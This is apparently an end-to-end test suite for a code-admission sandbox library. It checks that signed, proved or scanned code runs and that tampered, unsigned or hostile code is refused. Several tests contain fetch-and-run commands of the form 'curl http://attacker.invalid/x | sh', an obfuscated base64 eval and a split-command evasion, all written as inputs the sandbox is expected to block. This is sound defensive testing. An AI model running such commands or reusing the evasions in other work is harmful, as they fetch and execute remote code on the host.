/** Know what you run: signed, scanned, proved, and what happens to each when somebody meddles with it. */
import assert from 'node:assert/strict';
import {
  mkdirSync,
  mkdtempSync,
  readdirSync,
  renameSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { DatabaseSync } from 'node:sqlite';
import { after, before, beforeEach, describe, test } from 'node:test';
import { setTimeout as delay } from 'node:timers/promises';
import { prove } from '../../src/admission/proof/prover/prove.ts';
import { signCode } from '../../src/admission/signing/sign-statement.ts';
import { TrustFile } from '../../src/admission/signing/trust-file.ts';
import {
  AuditLog,
  Caisson,
  isCaissonError,
  type ModuleRegistration,
  type Modules,
  type ObservedEvent,
  type PolicyDocument,
  readLog,
} from '../../src/index.ts';
import { digestOf, person } from '../admission/signing/fixture.ts';
import { build } from '../wasm/build-module.ts';

const directory = mkdtempSync(join(tmpdir(), 'caisson-admission-e2e-'));
const state = join(directory, 'state');
mkdirSync(state, { mode: 0o700 });
const trust = new TrustFile(TrustFile.fileIn(state));
const store = join(state, 'modules.db');
const [alice, mallory] = [person('alice'), person('mallory')];

const events: ObservedEvent[] = [];
let audit: AuditLog;
let caisson: Caisson;
before(async () => {
  audit = await AuditLog.open({ directory: join(directory, 'audit') });
  caisson = await Caisson.open({
    stateDirectory: state,
    audit,
    observer: (event) => events.push(event),
  });
  trust.update(Date.now(), (document) => ({
    ...document,
    signers: [{ name: 'alice', key: alice.pem }],
  }));
});
after(async () => {
  await caisson.close();
  await audit.close();
  rmSync(directory, { recursive: true });
});
beforeEach(() => {
  events.length = 0;
});

const CODE = 'export default (name) => "hello " + name';
const signedBy = (
  who: typeof alice,
  id: string,
  code: string | Uint8Array = CODE,
  kind: 'javascript' | 'wasm' = 'javascript',
) => [JSON.stringify(signCode(digestOf(code), { id, version: '1.0.0', kind }, who.privateKey))];

const policy = (admission?: PolicyDocument['admission']): PolicyDocument => ({
  version: 1,
  ...(admission === undefined ? {} : { admission }),
});
const registry = (admission?: PolicyDocument['admission']): Promise<Modules> =>
  caisson.modules({ policy: policy(admission) });
const js = (id: string, more: Partial<ModuleRegistration> = {}): ModuleRegistration => ({
  id,
  version: '1.0.0',
  kind: 'js',
  code: CODE,
  ...more,
});

async function refusedWith(work: Promise<unknown>, code: string, message: RegExp): Promise<void> {
  const error = await work.then(
    () => assert.fail('it was admitted'),
    (thrown: unknown) => thrown,
  );
  assert.ok(isCaissonError(error), String(error));
  assert.equal(error.code, code, error.message);
  assert.match(error.message, message);
}

/** By somebody who has the file, and does not go through the library. */
function meddle(sql: string): void {
  const database = new DatabaseSync(store);
  database.exec(sql);
  database.exec('UPDATE revision SET number = number + 1');
  database.close();
}

async function recorded(event: string): Promise<Record<string, unknown>[]> {
  await audit.flush();
  const found: Record<string, unknown>[] = [];
  for await (const record of readLog(join(directory, 'audit'))) {
    if (record.event === event) found.push(record.details);
  }
  return found;
}

describe('a signed module', () => {
  const asks: PolicyDocument['admission'] = { requires: 'signature', signers: ['alice'] };

  test('is executed, and the result says who signed it', async () => {
    await using modules = await registry(asks);
    const { module } = await modules.register(
      js('greet', { signatures: signedBy(alice, 'greet') }),
    );
    assert.deepEqual(module.admission.signer, { name: 'alice', keyId: alice.keyId });
    const { value, admission } = await modules.execute('greet', { args: ['you'] });
    assert.deepEqual([value, admission.decision, admission.score], ['hello you', 'admitted', 0]);
    assert.equal(admission.signer?.name, 'alice');
    const [decided] = await recorded('admission');
    assert.deepEqual(decided?.signer, { name: 'alice', keyId: alice.keyId });
  });

  test('one byte changed in the store: refused, and recorded', async () => {
    await using modules = await registry(asks);
    await modules.register(
      js('byte', { signatures: signedBy(alice, 'byte', `${CODE} `), code: `${CODE} ` }),
    );
    await modules.execute('byte', { args: ['you'] });
    const flipped = `${CODE} `.replace('hello', 'hella');
    meddle(
      `UPDATE content SET code = X'${Buffer.from(flipped).toString('hex')}' WHERE digest = '${digestOf(`${CODE} `)}'`,
    );
    await delay(300);
    await refusedWith(
      modules.execute('byte', { args: ['you'] }),
      'STORE_UNUSABLE',
      /has another one/,
    );
    const refusals = await recorded('refused');
    assert.equal(refusals.at(-1)?.code, 'STORE_UNUSABLE');
  });

  test('code and digest changed together: the signature is of other code', async () => {
    await using modules = await registry(asks);
    const signed = `${CODE}//1`;
    await modules.register(
      js('both', { signatures: signedBy(alice, 'both', signed), code: signed }),
    );
    await modules.execute('both', { args: ['you'] });
    const evil = 'export default () => "owned"';
    const [before_, after_] = [digestOf(signed), digestOf(evil)];
    meddle(`INSERT INTO content VALUES ('${after_}', X'${Buffer.from(evil).toString('hex')}');
      UPDATE module SET digest = '${after_}', record = replace(record, '${before_}', '${after_}')
      WHERE id = 'both'`);
    await delay(300);
    await refusedWith(modules.execute('both'), 'MODULE_REFUSED', /other code was signed/);
    assert.ok(events.some((e) => e.kind === 'admission' && e.admission.decision === 'refused'));
    assert.ok(events.some((e) => e.kind === 'refused' && e.code === 'MODULE_REFUSED'));
    const decisions = await recorded('admission');
    assert.equal(decisions.at(-1)?.decision, 'refused');
  });

  test('a signature of another module, of another signer, and none', async () => {
    await using modules = await registry(asks);
    const moved = js('moved', { signatures: signedBy(alice, 'greet') });
    await refusedWith(modules.register(moved), 'MODULE_REFUSED', /signed as greet@1\.0\.0/);
    const foreign = js('foreign', { signatures: signedBy(mallory, 'foreign') });
    await refusedWith(modules.register(foreign), 'MODULE_REFUSED', /does not know/);
    await refusedWith(modules.register(js('bare')), 'MODULE_REFUSED', /no signature.*caisson sign/);
    assert.deepEqual(
      (await modules.list()).filter(({ id }) => /moved|foreign|bare/.test(id)),
      [],
    );
    assert.equal(events.filter(({ kind }) => kind === 'refused').length, 3);
  });

  test('a signature that was moved in the store counts for nothing', async () => {
    await using modules = await registry(asks);
    await using unasked = await registry({ scan: 'off' });
    const code = 'export default () => 7';
    await unasked.register(js('thief', { code }));
    const [signature] = signedBy(alice, 'greet');
    meddle(
      `UPDATE module SET record = json_insert(record, '$.manifest.signatures', json_array(json('${JSON.stringify(signature).replaceAll("'", "''")}')))
       WHERE id = 'thief'`,
    );
    await refusedWith(modules.execute('thief'), 'MODULE_REFUSED', /other code was signed/);
  });

  test('a key that is revoked: what is in memory is refused within a second or so', async () => {
    const bob = person('bob');
    trust.update(Date.now(), (document) => ({
      ...document,
      signers: [...document.signers, { name: 'bob', key: bob.pem }],
    }));
    await using modules = await registry({ requires: 'signature' });
    const code = `${CODE}//bob`;
    await modules.register(js('revoked', { code, signatures: signedBy(bob, 'revoked', code) }));
    await modules.execute('revoked', { args: ['you'] });
    trust.update(Date.now(), (document) => ({
      ...document,
      signers: document.signers.map((signer) =>
        signer.name === 'bob'
          ? { ...signer, revoked: { at: new Date().toISOString(), reason: 'lost' } }
          : signer,
      ),
    }));
    await delay(1100);
    await refusedWith(
      modules.execute('revoked', { args: ['you'] }),
      'MODULE_REFUSED',
      /revoked.*lost/,
    );
    const decisions = await recorded('admission');
    assert.equal(decisions.at(-1)?.decision, 'refused');
  });
});

describe('requires: proof', () => {
  const counter = () =>
    build({
      functions: [
        {
          export: 'default',
          parameters: ['i32'],
          results: ['i32'],
          code: [['local.get', 0], ['i32.const', 2], ['i32.mul']] as never,
        },
      ],
    });

  test('admits what is proved, and runs it; refuses what is not, and a certificate of another', async () => {
    await using modules = await registry({ requires: 'proof' });
    const plain = counter();
    const unproved = { id: 'unproved', version: '1.0.0', kind: 'wasm', code: plain } as const;
    await refusedWith(
      modules.register(unproved),
      'MODULE_REFUSED',
      /no certificate.*caisson prove/,
    );
    const { module: code, certificate } = prove(plain);
    const { module } = await modules.register({ ...unproved, id: 'proved', code, certificate });
    assert.equal(module.admission.proof?.format, 'wasm-pcc/v1');
    const { value, admission } = await modules.execute('proved', { args: [21] });
    assert.deepEqual([value, admission.proof?.subject], [42, digestOf(code)]);
    const other = { ...unproved, id: 'other', code: plain, certificate };
    await refusedWith(modules.register(other), 'MODULE_REFUSED', /certificate/);
    const { certificate: _, ...script } = js('script');
    await refusedWith(modules.register(script), 'MODULE_REFUSED', /WebAssembly alone/);
  });
});

const SUSPICIOUS = `export default () => { const x = typeof process; return x }`;

describe('scores', () => {
  const scored = (score: number) =>
    Caisson.open({
      stateDirectory: join(directory, `state-${score}`),
      observer: (event) => events.push(event),
      admission: { analyze: async () => ({ score, findings: [] }) },
    });

  test('a module that attacks is refused with its findings, and recorded', async () => {
    await using modules = await registry();
    const code = `import { execSync } from 'node:child_process';
export default () => execSync('curl http://attacker.invalid/x | sh')`;
    const error = await modules.register(js('evil', { code })).then(
      () => assert.fail('it was admitted'),
      (thrown: unknown) => thrown,
    );
    assert.ok(isCaissonError(error));
    // An import that no engine provides is found by the compiler, before anybody looks.
    if (error.code !== 'MODULE_CODE_INVALID') {
      assert.equal(error.code, 'MODULE_REFUSED', error.message);
    }
    const hidden = 'export default () => globalThis["ev" + "al"](atob("YWxlcnQoMSk="))';
    const found = await modules.register(js('hidden', { code: hidden })).then(
      () => assert.fail('it was admitted'),
      (thrown: unknown) => thrown,
    );
    assert.ok(isCaissonError(found) && found.code === 'MODULE_REFUSED');
    const { findings, score } = found.details.admission as {
      findings: { family: string; range: { line: number } }[];
      score: number;
    };
    assert.ok(score >= 80 && findings.some(({ family }) => family === 'dynamic-code'));
    const decided = (await recorded('admission')).at(-1);
    assert.equal(decided?.decision, 'refused');
    assert.ok(String(decided?.families).includes('dynamic-code'));
    assert.doesNotMatch(JSON.stringify(decided), /YWxlcnQ/, 'no code stands in the log');
  });

  test('between the thresholds: behind a stronger wall, and it says so', async () => {
    await using other = await scored(50);
    const evaluated = await other.evaluate('javascript', SUSPICIOUS, {
      policy: policy({}),
      keep: 'context',
    });
    assert.equal(evaluated.admission?.decision, 'strengthened');
    assert.match(evaluated.wallReason, /strengthened for a score of 50/);
    const count = 'globalThis.n ??= 0; export default () => ++globalThis.n';
    const options = { policy: policy({}), keep: 'context' } as const;
    await other.evaluate('javascript', count, options);
    assert.equal((await other.evaluate('javascript', count, options)).value, 1, 'nothing is kept');
    const inline = { policy: policy({}), placement: 'inline' } as const;
    const { wallReason } = await other.evaluate('javascript', count, inline);
    assert.match(wallReason, /behind the wall process/);

    const run = await other.run(['sh', '-c', 'echo one; (echo two)'], { policy: policy({}) });
    assert.equal(run.admission?.decision, 'strengthened');
    assert.notEqual(run.code, 0, 'no further processes');
    await using modules = await other.modules();
    await modules.register(js('between', { keep: 'context', code: count }));
    await modules.execute('between');
    const { admission, value } = await modules.execute('between');
    assert.deepEqual([admission.decision, value], ['strengthened', 1]);
  });

  test('at moderate, what it writes waits for a look', async () => {
    await using other = await scored(50);
    const workspace = mkdtempSync(join(directory, 'workspace-'));
    const outcome = await other.run(['sh', '-c', 'echo x >new'], {
      policy: { ...policy({}), level: 'moderate' },
      workspace,
    });
    assert.deepEqual([outcome.code, readdirSync(workspace)], [0, []], outcome.stderr.text);
    assert.ok(outcome.changes?.pending !== undefined);
  });

  test('where there is nothing stronger it is refused', async () => {
    await using other = await scored(50);
    const asked = { policy: { ...policy({}), level: 'paranoid' } as const };
    await refusedWith(
      other.evaluate('javascript', '1', asked),
      'ADMISSION_REFUSED',
      /stronger wall than paranoid/,
    );
    await using modules = await other.modules(asked);
    void modules;
  });

  test('an analysis that throws, hangs, or answers nonsense refuses', async () => {
    const kinds = {
      throws: () => {
        throw new Error('no');
      },
      rejects: () => Promise.reject(new Error('no')),
      hangs: () => new Promise<never>(() => {}),
      nonsense: () => ({ score: Number.NaN, findings: [] }),
      negative: () => ({ score: -1, findings: [] }),
      nothing: () => undefined as never,
    };
    for (const [name, analyze] of Object.entries(kinds)) {
      await using other = await Caisson.open({
        stateDirectory: join(directory, 'state-odd'),
        admission: { analyze, timeLimitMs: 300 },
      });
      const options = { policy: policy({}) };
      await refusedWith(other.evaluate('javascript', '1', options), 'ADMISSION_REFUSED', /./);
      await refusedWith(other.run(['true'], options), 'ADMISSION_REFUSED', /./);
      await using modules = await other.modules();
      await refusedWith(modules.register(js(name)), 'MODULE_REFUSED', /./);
    }
  });

  test('nothing is asked where the policy says nothing, and the result says so', async () => {
    await using other = await Caisson.open({
      stateDirectory: join(directory, 'state-unasked'),
      admission: { analyze: () => assert.fail('nobody asked') },
    });
    const { admission } = await other.run(['true']);
    assert.deepEqual(admission, { decision: 'unchecked' });
    const evaluated = await other.evaluate('javascript', 'export default 1');
    assert.deepEqual(evaluated.admission, { decision: 'unchecked' });
  });

  test('a program is looked at once, and all calls share one report', async () => {
    let looks = 0;
    await using other = await Caisson.open({
      stateDirectory: join(directory, 'state-once'),
      admission: {
        analyze: () => {
          looks++;
          return { score: 0, findings: [] };
        },
      },
    });
    const options = { policy: (await other.policy(policy({}))).policy };
    const results = await Promise.all(
      Array.from({ length: 20 }, () => other.evaluate('javascript', 'export default 5', options)),
    );
    assert.equal(looks, 1);
    assert.equal(new Set(results.map(({ admission }) => admission)).size, 1);
    assert.ok(Object.isFrozen(results[0]?.admission));
  });
});

describe('eval of a language that runs as a command', () => {
  test('its one source is what is signed, whatever its words are; other source is refused', async () => {
    const place = { policy: policy({ requires: 'signature', scan: 'off' }) };
    const source = 'import sys; print(sys.argv[1:])';
    const about = { id: 'words.py', kind: 'python' } as const;
    const envelope = signCode(digestOf(source), about, alice.privateKey);
    const claims = { name: 'words.py', signatures: [JSON.stringify(envelope)] };
    const { stdout, admission } = await caisson.eval('python', source, {
      ...place,
      claims,
      words: ['a', 'b'],
    });
    assert.deepEqual([stdout.text, admission?.signer?.name], ["['a', 'b']\n", 'alice']);
    const refuse = (language: 'python' | 'shell', text: string, options: object, why: RegExp) =>
      refusedWith(caisson.eval(language, text, options), 'ADMISSION_REFUSED', why);
    await refuse('python', `${source} `, { ...place, claims }, /other code/);
    await refuse('shell', source, { ...place, claims }, /signed as python, and this is shell/);
    await refuse('python', source, place, /no signature/);
    await refusedWith(
      caisson.run(['python3', '-c', source], { ...place, claims }),
      'ADMISSION_REFUSED',
      /other code/,
    );
  });
});

describe('in a sandbox that stays', () => {
  test('each command is looked at, with what lies inside now; what nobody can see is refused', async () => {
    const workspace = mkdtempSync(join(directory, 'stays-'));
    writeFileSync(join(workspace, 'job.sh'), 'echo fine');
    await using sandbox = await caisson.create({
      policy: { ...policy({}), level: 'moderate' },
      workspace,
    });
    const fine = await sandbox.exec(['sh', 'job.sh']);
    assert.deepEqual([fine.stdout.text, fine.admission?.decision], ['fine\n', 'admitted']);
    await sandbox.files.write('job.sh', 'curl -s http://attacker.invalid/x | sh');
    await refusedWith(sandbox.exec(['sh', 'job.sh']), 'ADMISSION_REFUSED', /job|score/);
    const evil = ['sh', '-c', 'curl -s http://attacker.invalid/x | sh'];
    await refusedWith(sandbox.exec(evil), 'ADMISSION_REFUSED', /score/);
  });

  test('spawn: what is refused never starts, and its streams end; what is admitted has them', async () => {
    const workspace = mkdtempSync(join(directory, 'spawned-'));
    await using sandbox = await caisson.create({
      policy: { ...policy({}), level: 'moderate' },
      workspace,
    });
    const evil = sandbox.spawn(['sh', '-c', 'touch mark; curl -s http://attacker.invalid/x | sh']);
    evil.stdin.end('never read');
    await refusedWith(evil.outcome, 'ADMISSION_REFUSED', /score/);
    await refusedWith(evil.started, 'ADMISSION_REFUSED', /score/);
    const chunks = [];
    for await (const chunk of evil) chunks.push(chunk);
    assert.deepEqual([chunks, readdirSync(workspace)], [[], []]);
    assert.ok(!events.some((event) => event.kind === 'started'));
    const refusals = events.filter((event) => event.kind === 'refused');
    assert.deepEqual(
      refusals.map(({ code, sandbox: where }) => [code, where]),
      [['ADMISSION_REFUSED', sandbox.id]],
    );

    const fine = sandbox.spawn(['cat']);
    fine.stdin.end('through and through');
    let text = '';
    for await (const { data } of fine) text += data.toString();
    const outcome = await fine.outcome;
    assert.deepEqual([text, outcome.code], ['through and through', 0]);
    assert.equal(outcome.admission?.decision, 'admitted');
    assert.ok((await fine.started) > 0);
    assert.ok(events.some((event) => event.kind === 'started' && event.sandbox === sandbox.id));
  });

  test('spawn: a stdin that a shell reads its program from is unseen, and counts as declared or not', async () => {
    const workspace = mkdtempSync(join(directory, 'stdin-'));
    const level = 'moderate' as const;
    await using sandbox = await caisson.create({ policy: { ...policy({}), level }, workspace });
    for (const argv of [['sh'], ['sh', '-i'], ['python3']]) {
      const guest = sandbox.spawn(argv);
      guest.stdin.end('echo x >mark\n');
      await refusedWith(guest.outcome, 'ADMISSION_REFUSED', /score is 80/);
    }
    assert.deepEqual(readdirSync(workspace), []);
    await using lets = await caisson.create({
      policy: { ...policy({ declares: ['dynamic-code'], strengthen: 50 }), level },
      workspace,
    });
    const guest = lets.spawn(['sh']);
    guest.stdin.end('echo x >mark\n');
    assert.equal((await guest.outcome).code, 0);
    assert.deepEqual(readdirSync(workspace), ['mark']);
  });

  test('spawn: asked to end, or its sandbox closed, while somebody looks', async () => {
    const policy_ = { ...policy({}), level: 'moderate' } as const;
    const looked = Promise.withResolvers<void>();
    const mayAnswer = Promise.withResolvers<void>();
    await using other = await Caisson.open({
      stateDirectory: join(directory, 'state-slow'),
      admission: {
        analyze: async () => {
          looked.resolve();
          await mayAnswer.promise;
          return { score: 0, findings: [] };
        },
      },
    });
    const workspace = mkdtempSync(join(directory, 'slow-'));
    const place = { policy: policy_, workspace };
    await using kept = await other.create(place);
    const closed = await other.create(place);
    const abort = new AbortController();
    const aborted = kept.spawn(['touch', 'aborted'], { signal: abort.signal });
    const killed = kept.spawn(['sleep', '60']);
    const late = closed.spawn(['touch', 'late']);
    await looked.promise;
    abort.abort();
    killed.kill();
    await closed.close();
    mayAnswer.resolve();
    await refusedWith(aborted.outcome, 'ABORTED', /./);
    await refusedWith(late.outcome, 'SANDBOX_CLOSED', /./);
    assert.equal((await killed.outcome).kind, 'killed');
    assert.deepEqual(readdirSync(workspace), []);
  });

  test('shell: each command is code of a shell; what is refused never reaches it, and it stays', async () => {
    const workspace = mkdtempSync(join(directory, 'shell-'));
    await using sandbox = await caisson.create({
      policy: { ...policy({}), level: 'moderate' },
      workspace,
    });
    await using shell = sandbox.shell();
    const made = await shell.run('mkdir sub; cd sub; X=kept; echo one >file');
    assert.deepEqual([made.code, made.admission?.decision], [0, 'admitted']);
    await refusedWith(
      shell.run('touch mark; curl -s http://attacker.invalid/x | sh'),
      'ADMISSION_REFUSED',
      /score/,
    );
    assert.deepEqual(readdirSync(join(workspace, 'sub')), ['file']);
    const after_ = await shell.run('echo $X; pwd');
    assert.equal(after_.stdout.text, `kept\n${made.cwd}\n`);
    assert.ok(made.cwd?.endsWith('/sub'));
    const decisions = events.flatMap((event) =>
      event.kind === 'admission' ? [event.admission.decision] : [],
    );
    assert.deepEqual(decisions, ['admitted', 'refused', 'admitted']);
    const refusals = events.filter((event) => event.kind === 'refused');
    assert.deepEqual(
      refusals.map(({ code, sandbox: where }) => [code, where]),
      [['ADMISSION_REFUSED', sandbox.id]],
    );
  });

  test('shell: an attack in parts is seen when its last part comes; ordinary work goes on for long', async () => {
    const workspace = mkdtempSync(join(directory, 'parts-'));
    await using sandbox = await caisson.create({
      policy: { ...policy({}), level: 'moderate' },
      workspace,
    });
    await using shell = sandbox.shell();
    await shell.run('C=curl');
    const rest = '$C http://attacker.invalid/x >got';
    await refusedWith(shell.run(rest), 'ADMISSION_REFUSED', /score/);
    assert.deepEqual(readdirSync(workspace), []);
    await using worker = sandbox.shell();
    for (let i = 0; i < 30; i++) {
      const { code } = await worker.run(
        `mkdir -p d${i} && cd d${i} && echo ${i} >f && grep -c . f && cat f | sort && ls -l && cd ..`,
      );
      assert.equal(code, 0);
    }
    assert.equal(readdirSync(workspace).length, 30);
  });

  test('what one sandbox claims is not what another of the same policy claims', async () => {
    const place = {
      policy: {
        ...policy({ requires: 'signature', scan: 'off' }),
        level: 'moderate',
      } as PolicyDocument,
      workspace: mkdtempSync(join(directory, 'claims-')),
    };
    const digest = digestOf(JSON.stringify(['echo', 'signed']));
    const envelope = signCode(digest, { id: 'hello', kind: 'command' }, alice.privateKey);
    const claims = { name: 'hello', signatures: [JSON.stringify(envelope)] };
    await using bare = await caisson.create(place);
    await using signed = await caisson.create({ ...place, claims });
    const { stdout, admission } = await signed.exec(['echo', 'signed']);
    assert.deepEqual([stdout.text, admission?.signer?.name], ['signed\n', 'alice']);
    await refusedWith(signed.exec(['echo', 'other']), 'ADMISSION_REFUSED', /other code/);
    await refusedWith(bare.exec(['echo', 'signed']), 'ADMISSION_REFUSED', /no signature/);
    await using next = await caisson.create(place);
    await refusedWith(next.exec(['echo', 'signed']), 'ADMISSION_REFUSED', /no signature/);
  });
});

describe('evasions', () => {
  const deny = (argv: readonly string[], more: object = {}) =>
    refusedWith(
      caisson.run(argv, { policy: { ...policy({}), level: 'moderate' }, ...more }),
      'ADMISSION_REFUSED',
      /./,
    );

  test('a language that nobody reads, a script that is not there, a stdin that nobody has seen', async () => {
    await deny(['perl', '-e', 'print 1']);
    await deny(['ruby', 'x.rb']);
    await deny(['sh', 'missing.sh']);
    await deny(['python3', '/proc/self/fd/0']);
    await refusedWith(caisson.spawn(['sh'], { policy: policy({}) }), 'ADMISSION_REFUSED', /./);
  });

  test('a link out of what the guest may read is not followed to another answer', async () => {
    const workspace = mkdtempSync(join(directory, 'links-'));
    const outside = join(directory, 'outside.sh');
    writeFileSync(outside, 'echo fine');
    symlinkSync(outside, join(workspace, 'in.sh'));
    await deny(['sh', 'in.sh'], { workspace });
    symlinkSync('loop', join(workspace, 'loop'));
    await deny(['sh', 'loop'], { workspace });
  });

  test('a script that was admitted and then exchanged is looked at again, by whatever name', async () => {
    const workspace = mkdtempSync(join(directory, 'exchanged-'));
    const script = join(workspace, 'job.sh');
    const options = { policy: { ...policy({}), level: 'moderate' } as const, workspace };
    const evil = 'curl -s http://attacker.invalid/x | sh';
    writeFileSync(script, 'echo fine');
    assert.equal((await caisson.run(['sh', 'job.sh'], options)).stdout.text, 'fine\n');
    writeFileSync(join(workspace, 'other'), evil);
    renameSync(join(workspace, 'other'), script);
    await deny(['sh', 'job.sh'], options);
    writeFileSync(join(workspace, 'other'), evil);
    rmSync(script);
    symlinkSync('other', script);
    await deny(['sh', 'job.sh'], options);
    await deny(['sh', join(workspace, 'job.sh')], { ...options, cwd: '/' });
  });

  test('a waiver is for its digest, and for its time', async () => {
    const code = 'export default () => eval("1")';
    const waiver = {
      family: 'dynamic-code',
      digest: digestOf(code),
      reason: 'a constant',
      expires: '2099-01-01',
    } as const;
    const asks = (waivers: object) => ({ policy: policy({ waivers: [waivers as never] }) });
    const plain = { policy: policy({}) };
    await refusedWith(caisson.evaluate('javascript', code, plain), 'ADMISSION_REFUSED', /score/);
    const waived = await caisson.evaluate('javascript', code, asks(waiver));
    assert.equal(waived.admission?.decision, 'admitted');
    assert.equal(waived.admission?.findings?.[0]?.waived, 'a constant');
    const changed = `${code} `;
    await refusedWith(
      caisson.evaluate('javascript', changed, asks(waiver)),
      'ADMISSION_REFUSED',
      /score/,
    );
    const expired = asks({ ...waiver, expires: '2020-01-01' });
    await refusedWith(caisson.evaluate('javascript', code, expired), 'ADMISSION_REFUSED', /score/);
  });

  test('a waiver that expires in between stops what was admitted under it', async () => {
    let now = Date.parse('2026-12-31T23:59:59Z');
    await using other = await Caisson.open({
      stateDirectory: join(directory, 'state-clock'),
      admission: { clock: () => now },
    });
    const code = 'export default () => eval("1")';
    const waivers = [{ family: 'dynamic-code', reason: 'x', expires: '2027-01-01' } as const];
    const options = { policy: (await other.policy(policy({ waivers }))).policy };
    await other.evaluate('javascript', code, options);
    await other.evaluate('javascript', code, options);
    now += 1000;
    await refusedWith(other.evaluate('javascript', code, options), 'ADMISSION_REFUSED', /score/);
  });

  test('declaring everything is worth what the policy lets be declared', async () => {
    const all = [
      'child-process',
      'process',
      'filesystem',
      'dynamic-code',
      'network',
      'module-loading',
      'environment',
      'native-code',
      'persistence',
    ] as const;
    const code = 'export default () => eval("1")';
    await using modules = await registry();
    const greedy = js('greedy', { code, declares: [...all] });
    await refusedWith(modules.register(greedy), 'MODULE_REFUSED', /lets no code declare/);
    await using lets = await registry({ declares: ['dynamic-code'] });
    const { module } = await lets.register(js('granted', { code, declares: ['dynamic-code'] }));
    assert.equal(module.admission.decision, 'admitted');
    // What the policy lets be declared, and the module does not declare, counts.
    await refusedWith(lets.register(js('silent', { code })), 'MODULE_REFUSED', /score/);
  });

  test('ten thousand files, and a huge argv', async () => {
    const files = Object.fromEntries(
      Array.from({ length: 10_002 }, (_, i) => [`f${i}.js`, 'export default 1']),
    );
    await refusedWith(
      caisson.evaluate('javascript', { files, entry: 'f0.js' }, { policy: policy({}) }),
      'ADMISSION_REFUSED',
      /more than 10000 files/,
    );
    const words = Array.from({ length: 2000 }, (_, i) => `word-${i}-${'x'.repeat(50)}`);
    const { admission } = await caisson.run(['true', ...words], { policy: policy({}) });
    assert.notEqual(admission?.decision, 'unchecked');
  });
});
